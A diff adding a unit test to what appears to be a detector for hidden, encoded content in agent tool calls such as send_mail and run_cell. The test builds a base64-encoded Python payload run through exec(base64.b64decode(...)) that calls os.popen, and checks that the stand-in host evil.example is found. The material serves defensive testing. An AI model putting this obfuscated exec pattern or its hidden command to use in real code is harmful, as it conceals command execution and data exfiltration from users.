@@ -130,3 +130,10 @@ def test_s03_letters_as_character_references_are_told() -> None:
     (hit,) = find_encoded(call("send_mail", {"html": f'<a href="{hidden}">offers</a>'}))
     assert "evil.example" in hit.text
     assert not list(find_encoded(call("send_mail", {"html": "caf&#233; &#8212; &#128512;"})))
+
+
+def test_what_a_program_hides_is_read_whatever_its_input_is_called() -> None:
+    hidden = b64(f"import os; os.popen('{SAID}')")
+    code = f"import base64\nexec(base64.b64decode('{hidden}'))"
+    [told] = find_encoded(call("run_cell", {"cell_source": code}))
+    assert "evil.example" in told.text
